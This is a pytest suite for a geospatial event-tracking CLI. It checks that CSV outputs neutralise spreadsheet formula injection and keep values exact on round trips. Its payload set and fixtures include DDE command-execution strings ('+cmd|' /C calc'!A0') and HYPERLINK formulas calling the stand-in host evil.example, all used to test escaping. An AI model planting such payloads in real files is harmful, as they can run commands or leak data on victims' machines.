"""CSV outputs are safe to open in a spreadsheet, exact, and read back to the same values.

Each writing verb runs through the real CLI on inputs carrying formula payloads; the
files are read with Python's csv module and checked as a spreadsheet would see them
(a cell whose first non-space character is = + - @ tab or CR, and which is not a plain
number, is a live formula). CSV -> CSV round trips are byte-exact.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import geopandas as gpd
import pytest
import shapely
from click.testing import CliRunner

from geoevents.cli import main
from geoevents.io.csvcell import escape_cell, format_number, unescape_cell

PAYLOADS = {
    "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "''@two quotes",
    "＝1+1",
}
HARMLESS = {"-3.5", "+7", "1e5", " -0.25 ", "plain text", "'just a quote", "2024-01-02", "a=b", ""}


def spreadsheet_formula(value: str) -> bool:
    """Would a spreadsheet importing this CSV cell treat it as a formula? (independent of
    the package: first non-space character, and not a plain number)."""
    text = value.lstrip(" ")
    if not text or text[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20":
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def read_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def assert_no_formulas(rows: list[list[str]]) -> None:
    live = [value for row in rows for value in row if spreadsheet_formula(value)]
    assert not live, live


def run(*args: object) -> object:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


# ---------------------------------------------------------------- the escaping itself

def test_escaping_is_reversible_and_neutral_over_every_short_string() -> None:
    """All strings up to five characters over the characters that matter: escaping is
    injective, unescape undoes it, and no escaped cell is a formula."""
    alphabet = "'= -+@\t1.a"
    seen: dict[str, str] = {}
    for length in range(6):
        for chars in itertools.product(alphabet, repeat=length):
            text = "".join(chars)
            escaped = escape_cell(text)
            assert unescape_cell(escaped) == text, (text, escaped)
            assert escaped not in seen, (text, seen.get(escaped))
            seen[escaped] = text
            assert not spreadsheet_formula(escaped), (text, escaped)
            assert escaped in (text, "'" + text)


def test_payloads_get_one_quote_and_harmless_text_none() -> None:
    for text in PAYLOADS | {"-", "- 3", "-3.5 km", "+380 44 000 00 00", "-inf"}:
        assert escape_cell(text) == "'" + text
    for text in HARMLESS:
        assert escape_cell(text) == text and unescape_cell(text) == text


@pytest.mark.parametrize("value", [12345678901234567.0, 0.1234567890123456789, 2.0 ** 53 + 2, -3.5, 1e-300,
                                   -0.0, 1e300, 123456.789012345678])
def test_numbers_are_written_in_full(value: float) -> None:
    text = format_number(value)
    assert float(text) == value and repr(float(text)) == repr(value)
    if value.is_integer() and abs(value) < 1e21:
        assert "e" not in text and "." not in text  # 12345678901234568, not 1.23456789e+16


# ---------------------------------------------------------------------------- export

def _events_csv(path: Path, rows: list[dict]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _row(i: int, **fields: object) -> dict:
    return {"id": f"e{i}", "date": "2024-01-02", "latitude": 50.5, "longitude": 30.5 + i / 100,
            "kind": "attack", "actor": "Russian forces", "claimant": "Test Wire", "claim": "A claim",
            "figure": "", "figure_unit": "", "status": "reported", "published": "2024-01-03", **fields}


def test_export_neutralises_formulas_and_round_trips_exactly(tmp_path: Path) -> None:
    payloads = sorted(p for p in PAYLOADS if not p.startswith(("\t", "\r")))  # refused as control characters
    rows = [_row(i, claimant=p, claim=f"claim {p}", actor=p, source=p) for i, p in enumerate(payloads)]
    rows.append(_row(len(rows), id="=id()", figure="-3.5", figure_unit="km2"))
    source = _events_csv(tmp_path / "in.csv", rows)
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    assert run("export", source, "-o", first).exit_code == 0
    cells = read_cells(first)
    assert_no_formulas(cells)
    header = cells[0]
    by_id = {row[header.index("id")]: dict(zip(header, row)) for row in cells[1:]}
    for i, payload in enumerate(payloads):
        written = by_id[f"e{i}"]["claimant"]
        # one quote before the text (events trim leading spaces); a CSV cell that already
        # starts with quotes was read as escaped, so it is written back as it came
        assert written == (payload if payload.startswith("'") else "'" + payload.strip())
    last = by_id["'=id()"]
    assert last["figure"] == "-3.5"  # a real number is left alone
    # CSV -> CSV is exact, and the events read back are the same
    result = run("export", first, "-o", second)
    assert result.exit_code == 0, result.output
    assert second.read_bytes() == first.read_bytes()
    from geoevents.events.read import read_events

    original, again = read_events(source), read_events(first)
    for column in ("id", "actor", "claimant", "claim", "source"):
        assert again[column].tolist() == original[column].tolist(), column
    assert again["figure"].fillna(0).tolist() == original["figure"].fillna(0).tolist()


def test_text_that_already_starts_with_a_quote_survives_csv(tmp_path: Path) -> None:
    """A GeoJSON claimant `'=x` (a quote the user typed) is not confused with escaping."""
    features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [30.5, 50.5]},
                 "properties": {**_row(0, claimant=text), "latitude": None, "longitude": None}}
                for text in ["'=x"]] + [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [30.6, 50.6]},
         "properties": {**_row(1, claimant="''+y", claim="'plain"), "latitude": None, "longitude": None}}]
    source = tmp_path / "in.geojson"
    source.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    out = tmp_path / "out.csv"
    assert run("export", source, "-o", out).exit_code == 0, run("validate", source).output
    cells = read_cells(out)
    assert_no_formulas(cells)
    claimant = cells[0].index("claimant")
    assert [row[claimant] for row in cells[1:]] == ["''=x", "'''+y"]
    from geoevents.events.read import read_events

    back = read_events(out)
    assert back["claimant"].tolist() == ["'=x", "''+y"] and back["claim"].tolist()[1] == "'plain"


def test_figure_keeps_full_precision_through_csv(tmp_path: Path) -> None:
    figures = ["12345678901234567", "0.1234567890123456789", "9007199254740993", "-3.5", "1000"]
    rows = [_row(i, figure=f, figure_unit="troops") for i, f in enumerate(figures)]
    source = _events_csv(tmp_path / "in.csv", rows)
    out, again = tmp_path / "out.csv", tmp_path / "again.csv"
    assert run("export", source, "-o", out).exit_code == 0
    cells = read_cells(out)
    column = cells[0].index("figure")
    written = [row[column] for row in cells[1:]]
    assert written == ["12345678901234568", "0.12345678901234568", "9007199254740992", "-3.5", "1000"]
    assert [float(w) for w in written] == [float(f) for f in figures]  # the float64 events hold
    assert run("export", out, "-o", again).exit_code == 0
    assert again.read_bytes() == out.read_bytes()


def test_write_events_csv_keeps_points_without_latitude_columns(tmp_path: Path) -> None:
    from geoevents.io.write import write_events

    frame = gpd.GeoDataFrame({"id": ["a", "b", "c"], "claim": ["x", "y", "z"]},
                             geometry=[shapely.Point(35.2712346, 51.1912346), None,
                                       shapely.box(30, 50, 31, 51)], crs=4326)
    out = write_events(frame, tmp_path / "e.csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [(r["id"], r["latitude"], r["longitude"]) for r in rows] == [
        ("a", "51.1912346", "35.2712346"), ("b", "", ""), ("c", "", "")]
    assert rows[0]["wkt"] == "" and rows[2]["wkt"].startswith("POLYGON")
    # a projected frame is written in WGS84 like the other formats
    projected = write_events(frame.iloc[:1].to_crs(3857), tmp_path / "p.csv")
    row = next(csv.DictReader(io.StringIO(projected.read_text(encoding="utf-8"))))
    assert float(row["latitude"]) == pytest.approx(51.1912346, abs=1e-7)
    assert float(row["longitude"]) == pytest.approx(35.2712346, abs=1e-7)


# ------------------------------------------------------------------------- geocode

PLACES = (
    'id,location,note,name\n'
    '1,Kursk,"=HYPERLINK(""http://evil.example"",""x"")",first\n'
    '2,Sudzha,-3.5,\n'
    "007,Kharkiv Oblast,'+already neutralised, spaced \n"
)


def test_geocode_csv_keeps_the_users_columns_and_neutralises_them(tmp_path: Path) -> None:
    places = tmp_path / "places.csv"
    places.write_text(PLACES, encoding="utf-8")
    out = tmp_path / "out.csv"
    result = run("geocode", "--file", places, "--column", "location", "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    cells = read_cells(out)
    assert_no_formulas(cells)
    header = cells[0]
    assert header[:4] == ["id", "location", "note", "name"]
    assert header[4:7] == ["query", "geocoded_name", "latitude"]  # `name` was the user's
    assert [row[:4] for row in cells[1:]] == [
        ["1", "Kursk", "'=HYPERLINK(\"http://evil.example\",\"x\")", "first"],
        ["2", "Sudzha", "-3.5", ""],
        ["007", "Kharkiv Oblast", "'+already neutralised", " spaced "]]
    results = {row[1]: dict(zip(header, row)) for row in cells[1:]}
    assert results["Kursk"]["geocoded_name"] == "Kursk" and results["Kursk"]["admin1_code"] == "RU-KRS"
    assert float(results["Sudzha"]["latitude"]) == pytest.approx(51.19, abs=0.01)  # not swapped
    assert float(results["Sudzha"]["longitude"]) == pytest.approx(35.27, abs=0.01)
    # json and geojson carry the same columns, values exactly as the user wrote them
    for fmt in ("json", "geojson"):
        result = run("geocode", "--file", places, "--column", "location", "--format", fmt)
        assert result.exit_code == 0, result.output
        data = json.loads(result.stdout)
        records = data if fmt == "json" else [f["properties"] for f in data["features"]]
        assert [list(r)[:6] for r in records] == [["id", "location", "note", "name", "query", "geocoded_name"]] * 3
        assert [r["note"] for r in records] == ["=HYPERLINK(\"http://evil.example\",\"x\")", "-3.5",
                                                "+already neutralised"]
        assert [r["id"] for r in records] == ["1", "2", "007"] and records[2]["name"] == " spaced "
    # our own CSV read back through --column gives the user's values, not the escaped text
    again = run("geocode", "--file", out, "--column", "location", "--format", "json")
    assert [r["note"] for r in json.loads(again.stdout)][0] == "=HYPERLINK(\"http://evil.example\",\"x\")"


def test_geocode_csv_of_plain_names_is_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "g.csv"
    result = run("geocode", "=1+1", "Kursk", "--format", "csv", "-o", out)
    assert result.exit_code == 3  # "=1+1" is not a place
    cells = read_cells(out)
    assert_no_formulas(cells)
    assert cells[1][0] == "'=1+1" and cells[2][0] == "Kursk"


def test_geocode_refuses_a_ragged_table_with_its_line(tmp_path: Path) -> None:
    places = tmp_path / "p.csv"
    places.write_text("id,location\n1,Kursk\n2,Sudzha,extra\n", encoding="utf-8")
    result = run("geocode", "--file", places, "--column", "location", "--format", "csv")
    assert result.exit_code == 2 and f"{places} line 3: 3 cells but the header names 2 columns" in result.output


# ------------------------------------------------------------- territory CSV outputs

def _snapshots(folder: Path, controller: str) -> Path:
    folder.mkdir()
    for day, east in (("20240101", 31.0), ("20240103", 30.5)):
        gpd.GeoDataFrame({"controller": [controller]}, geometry=[shapely.box(30, 50, east, 51)],
                         crs=4326).to_file(folder / f"front_{day}.geojson", driver="GeoJSON")
    return folder


def test_timeline_csv_neutralises_text_and_keeps_negative_numbers(tmp_path: Path) -> None:
    folder = _snapshots(tmp_path / "front", "@SUM(1+1)")
    out = tmp_path / "t.csv"
    result = run("timeline", folder, "-o", out)
    assert result.exit_code == 0, result.output
    cells = read_cells(out)
    assert_no_formulas(cells)
    header = cells[0]
    rows = [dict(zip(header, row)) for row in cells[1:]]
    assert {r["controller"] for r in rows} == {"'@SUM(1+1)"}
    change = float(rows[1]["change_km2"])
    assert change < -3000 and rows[1]["change_km2"].startswith("-")  # a number, left alone
    # the same numbers as the JSON output, to the last bit
    dates = json.loads(run("timeline", folder, "--format", "json").stdout)["dates"]
    assert [float(r["area_km2"]) for r in rows] == [d["area_km2"] for d in dates]
    assert [r["change_km2"] and float(r["change_km2"]) for r in rows] == [
        d["change_km2"] if d["change_km2"] is not None else "" for d in dates]


def test_diff_csv_neutralises_region_names_from_the_users_boundaries(tmp_path: Path) -> None:
    folder = _snapshots(tmp_path / "front", "RU")
    regions = tmp_path / "regions.geojson"
    gpd.GeoDataFrame({"admin1_code": ["ZZ-1"], "admin1_name": ["=HYPERLINK(\"http://evil.example\")"]},
                     geometry=[shapely.box(29, 49, 32, 52)], crs=4326).to_file(regions, driver="GeoJSON")
    out = tmp_path / "d.csv"
    result = run("diff", folder, "--from", "2024-01-01", "--to", "2024-01-03", "--by", "admin1",
                 "--boundaries", regions, "-o", out)
    assert result.exit_code == 0, result.output
    cells = read_cells(out)
    assert_no_formulas(cells)
    row = dict(zip(cells[0], cells[1]))
    assert row["admin1_name"] == "'=HYPERLINK(\"http://evil.example\")" and row["change"] == "lost"
    assert float(row["area_km2"]) > 3000


def test_check_claims_csv_neutralises_event_text(tmp_path: Path) -> None:
    folder = _snapshots(tmp_path / "front", "RU")
    events = _events_csv(tmp_path / "claims.csv", [
        _row(0, id="=HYPERLINK(\"http://evil.example\")", kind="control", claimant="+cmd",
             date="2024-01-03", figure="3900", figure_unit="km2", claim="-holds the area")])
    out = tmp_path / "c.csv"
    result = run("check-claims", events, "--control", folder, "-o", out)
    assert result.exit_code == 0, result.output
    cells = read_cells(out)
    assert_no_formulas(cells)
    row = dict(zip(cells[0], cells[1]))
    assert row["id"] == "'=HYPERLINK(\"http://evil.example\")" and row["claimant"] == "'+cmd"
    assert row["claim"] == "'-holds the area" if "claim" in row else True
    assert row["verdict"] in ("consistent", "overstated", "understated", "no data")
    assert float(row["figure"]) == 3900


@pytest.mark.parametrize(("text", "claimant"), [
    ("id,claimant\r\na,'=x\r\n", "=x"),                       # CRLF line ends
    ("claimant,id\n'@x,a\n", "@x"),                           # first cell of a row
    ('id,claimant\na,"\'=x, with a comma"\n', "=x, with a comma"),  # inside double quotes
    ("id, claimant\na,  '+x\n", "+x"),                        # spaces after the separator
    ("\ufeffclaimant,id\n'-x,a\n", "-x"),                     # after a byte-order mark
    ("id,claimant\na,Russia's '=x\n", "Russia's '=x"),        # quotes inside text stay
    ("id,claimant\na,'plain\n", "'plain"),                    # a quote before harmless text stays
])
def test_the_csv_reader_undoes_exactly_one_escaping_quote(tmp_path: Path, text: str, claimant: str) -> None:
    from geoevents.io.csv import read_csv_table

    path = tmp_path / "t.csv"
    path.write_bytes(text.encode("utf-8"))
    frame = read_csv_table(path).frame
    assert frame["claimant"].tolist() == [claimant] and frame["id"].tolist() == ["a"]
